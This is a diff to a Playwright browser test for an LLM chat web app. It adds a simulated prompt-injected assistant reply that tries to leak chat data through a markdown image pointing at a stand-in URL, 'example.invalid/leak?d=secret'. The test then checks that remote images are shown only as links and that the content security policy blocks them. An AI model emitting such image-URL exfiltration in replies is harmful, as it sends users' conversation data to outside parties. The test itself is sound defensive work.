@@ -18,6 +18,8 @@ pytestmark = [
     pytest.mark.skipif(shutil.which("npx") is None, reason="npx is not installed"),
 ]
 ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"
+LEAK_URL = "http://example.invalid/leak?d=secret"
+DATA_IMAGE = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
 CHROMIUM_ARGS = [
     "--no-sandbox",
     "--disable-gpu",
@@ -53,6 +55,8 @@ def test_chat_in_the_browser_streams_text_and_tool_cards_and_keeps_history(user,
         ),
         Turn(text="Now reading it.", tool_calls=[ToolCallSpec("files__read_text_file", {"path": target})]),
         Turn(text=final, chunk_size=3),
+        # A prompt-injected reply that tries to send chat data out through an image URL.
+        Turn(text=f"Done. ![the picture]({LEAK_URL}) and a local one: ![dot]({DATA_IMAGE})"),
     )
     providers["openai"].stream_delay = 0.02  # a model that takes its time per token
     ARTIFACTS.mkdir(exist_ok=True)
@@ -61,11 +65,29 @@ def test_chat_in_the_browser_streams_text_and_tool_cards_and_keeps_history(user,
         browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
         page = browser.new_page()
         problems = []  # shown if the test fails: the page's own errors
+        # Chromium reports each CSP violation to the page as an event; the init script passes them on.
+        violations = []
+        page.add_init_script(
+            "document.addEventListener('securitypolicyviolation',"
+            " (e) => console.log(`csp-violation ${e.effectiveDirective} ${e.blockedURI}`));"
+        )
+        requested = []
+        page.on("request", lambda request: requested.append(request.url))
+        failed = {}
+        page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
         page.on("pageerror", lambda error: problems.append(f"page error: {error}"))
         page.on(
             "console",
             lambda message: (
                 problems.append(f"console: {message.text}") if message.type in ("error", "warning") else None
+            ),
+        )
+        page.on(
+            "console",
+            lambda message: (
+                violations.append(message.text.removeprefix("csp-violation "))
+                if message.text.startswith("csp-violation ")
+                else None
             ),
         )
         deltas = []
@@ -118,5 +140,41 @@ def test_chat_in_the_browser_streams_text_and_tool_cards_and_keeps_history(user,
             page.locator(".tool").nth(1).locator("summary").click()
             expect(page.locator(".tool").nth(1).locator("pre.result")).to_have_text("hello from the browser test")
             page.screenshot(path=str(ARTIFACTS / "chat-reloaded.png"), full_page=True)
+
+            # a remote image in the reply is a link, never loaded; a data: image still shows
+            page.select_option("#provider", "openai")
+            expect(page.locator("#model option[value=gpt-4o-mini]")).to_have_count(1)
+            page.select_option("#model", "gpt-4o-mini")
+            page.fill("#input", "Show me a picture")
+            page.press("#input", "Enter")
+            reply = page.locator(".msg.assistant", has_text="Done.")
+            expect(reply.locator("a.remote-image")).to_have_text("🖼 the picture", timeout=30_000)
+            link = reply.locator("a.remote-image")
+            assert link.get_attribute("href") == LEAK_URL
+            assert link.get_attribute("target") == "_blank"
+            assert link.get_attribute("rel") == "noopener noreferrer nofollow"
+            expect(page.locator("img[src*='example.invalid']")).to_have_count(0)
+            expect(reply.locator("img")).to_have_attribute("src", DATA_IMAGE)
+            page.reload()  # the stored reply renders the same way
+            expect(page.locator(".msg.assistant a.remote-image")).to_have_text("🖼 the picture", timeout=15_000)
+            expect(page.locator("img[src*='example.invalid']")).to_have_count(0)
+            assert [url for url in requested if "example.invalid" in url] == []
+            assert violations == []  # the chat page itself keeps to its policy
+
+            # the policy is enforced: an image from elsewhere, put on the page by hand, is refused
+            page.evaluate("document.body.append(Object.assign(new Image(), {src: 'http://example.invalid/probe'}))")
+            for _ in range(50):  # Playwright delivers events while the page is awaited
+                if violations and failed:
+                    break
+                page.wait_for_timeout(100)
+            assert violations == ["img-src http://example.invalid/probe"]
+            assert failed == {"http://example.invalid/probe": "csp"}  # blocked in the browser, never sent
+
+            # the API docs (inline blocks with a nonce) keep to it too
+            violations.clear()
+            page.goto(f"{base_url}/api/docs/")
+            expect(page.locator(".swagger-ui .info .title")).to_contain_text("LLM Platform API", timeout=15_000)
+            expect(page.locator(".opblock").first).to_be_visible()
+            assert violations == []
         finally:
             browser.close()
